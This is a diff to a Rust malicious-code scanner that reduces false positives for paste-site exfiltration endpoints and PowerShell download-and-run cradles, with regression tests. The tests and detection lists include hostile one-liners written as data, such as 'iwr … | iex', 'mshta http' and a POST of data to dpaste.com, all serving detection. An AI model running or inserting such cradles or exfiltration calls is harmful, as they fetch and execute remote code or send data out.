@@ -404,6 +404,19 @@ pub(crate) fn scan(text: &str, reach: Reach) -> Vec<Signal> {
         let Some(&(group, member)) = compiled.owner.get(found.pattern().as_usize()) else {
             continue;
         };
+        // A host name starts a word (`//dpaste.com`, `"pastebin.com`); inside an
+        // identifier (`NSDPasteboard`) it is a coincidence.
+        if GROUPS
+            .get(group)
+            .is_some_and(|g| g.kind == SignalKind::ExfilEndpoint)
+            && found
+                .start()
+                .checked_sub(1)
+                .and_then(|before| text.as_bytes().get(before))
+                .is_some_and(u8::is_ascii_alphabetic)
+        {
+            continue;
+        }
         if let (Some(set), Some(slot)) = (seen.get_mut(group), first.get_mut(group)) {
             set.insert(member);
             slot.get_or_insert(found.start());
@@ -496,17 +509,29 @@ fn download_and_run(text: &str, reach: Reach) -> Option<Signal> {
                 lower.contains("://") || lower.contains("$") || lower.contains("downloadstring")
             })
             .map(|(f, _)| f);
-        let powershell_cradle = [
+        // A cradle names a source (a URL, a variable) or joins the two with a pipe or a
+        // call; PowerShell's aliases in a word list (a lexer's keywords) do neither.
+        let cradle_fetch = [
             "downloadstring",
             "downloadfile",
             "invoke-webrequest",
             "iwr ",
         ]
         .iter()
-        .any(|f| lower.contains(f))
-            && ["iex", "invoke-expression", "start-process"]
-                .iter()
-                .any(|r| lower.contains(r));
+        .find_map(|f| lower.find(f));
+        let cradle_run = ["iex", "invoke-expression", "start-process"]
+            .iter()
+            .find_map(|r| lower.find(r));
+        let powershell_cradle = match (cradle_fetch, cradle_run) {
+            (Some(f), Some(r)) => {
+                let between = lower.get(f.min(r)..f.max(r)).unwrap_or("");
+                lower.contains("://")
+                    || lower.contains('$')
+                    || between.contains('|')
+                    || between.contains('(')
+            }
+            _ => false,
+        };
         let cradle = powershell_cradle
             || lower.contains("mshta http")
             || lower.contains("regsvr32 /s /n /u /i:http");
@@ -724,6 +749,22 @@ mod tests {
         assert_eq!(
             kinds("get('https://x.example/payload.exe')"),
             [SignalKind::ExecutableDrop]
+        );
+    }
+
+    /// Regression (pygments' lexers): PowerShell aliases in a keyword list and a Cocoa
+    /// identifier that contains a paste site's name are data.
+    #[test]
+    fn word_lists_and_identifiers_are_not_endpoints_or_cradles() {
+        assert!(kinds("aliases = ('cat cd curl iex ihy ii ipal iwr kill lp ls')").is_empty());
+        assert!(
+            kinds("PROTOCOLS = {'NSDPasteboardTypeOwner', 'UIDPasteConfiguration'}").is_empty()
+        );
+        assert!(kinds("s = 'iwr http://x.example/a | iex'").contains(&SignalKind::DownloadRun));
+        assert!(kinds("iex (iwr -useb get.example)").contains(&SignalKind::DownloadRun));
+        assert_eq!(
+            kinds("requests.post('https://dpaste.com/api/v2/', data=d)"),
+            [SignalKind::ExfilEndpoint]
         );
     }
 }
